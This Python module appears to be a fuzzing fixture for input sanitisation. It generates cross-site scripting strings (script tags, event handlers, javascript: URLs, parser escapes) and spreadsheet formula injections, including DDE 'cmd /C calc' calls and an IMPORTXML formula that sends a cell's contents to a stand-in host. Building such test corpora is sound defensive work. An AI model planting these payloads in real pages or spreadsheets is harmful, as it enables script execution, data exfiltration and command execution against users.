"""Texts that would run if a page or a sheet let them (夹带文本)."""

MARK = "xq9z"
HANDLERS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "onpointerenter",
)
TAGS = (
    "img src=x",
    "svg",
    "body",
    "details open",
    "video",
    "audio",
    "iframe",
    "input autofocus",
    "marquee",
    "select",
)
ADDRESSES = (
    "javascript:{m}()",
    "JaVaScRiPt:{m}()",
    "java\tscript:{m}()",
    " javascript:{m}()",
    "javascript&colon;{m}()",
    "&#106;avascript:{m}()",
    "data:text/html,<script>{m}()</script>",
    "vbscript:{m}()",
)
WHOLE = (
    "<script>{m}()</script>",
    "</script><script>{m}()</script>",
    "<ScRiPt>{m}()</sCrIpT>",
    "<script/src=//{m}.example></script>",
    "<<script>{m}()//<</script>",
    "</title><script>{m}()</script>",
    "</textarea><script>{m}()</script>",
    "</style><script>{m}()</script>",
    "--><script>{m}()</script>",
    "]]><script>{m}()</script>",
    "'\"><script>{m}()</script>",
    '" onfocus={m}() autofocus x="',
    "' onfocus={m}() autofocus x='",
    "` onfocus={m}() x=`",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={m}()>",
    "<svg><animate onbegin={m}() attributeName=x dur=1s>",
    "<base href=//{m}.example>",
    "<meta http-equiv=refresh content='0;url=//{m}.example'>",
    "<link rel=stylesheet href=//{m}.example>",
    "<object data=//{m}.example>",
    "<embed src=//{m}.example>",
    "<form action=//{m}.example><button>",
    "{{ {m} }}{% debug %}",
    "＜script＞{m}()＜/script＞",
    "\u2028<script>{m}()</script>",
    "<img src=`x`onerror={m}()>",
)


def scripts() -> list[str]:
    made = [one.replace("{m}", MARK) for one in WHOLE]
    made += [f"<{tag} {handler}={MARK}()>" for tag, handler in zip(TAGS * 2, HANDLERS * 3, strict=False)]
    made += [f'<a href="{one}">点</a>'.replace("{m}", MARK) for one in ADDRESSES]
    made += [one.replace("{m}", MARK) for one in ADDRESSES]
    return made


FORMULAS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example","点")',
    "=老河口",
    '=IMPORTXML(CONCAT("http://x.example?",A1),"//a")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    ";=1+1",
    'DDE("cmd";"/C calc";"x")',
    '=DDE("cmd","/C calc","x")',
    "{=1+1}",
    " =1+1",
)
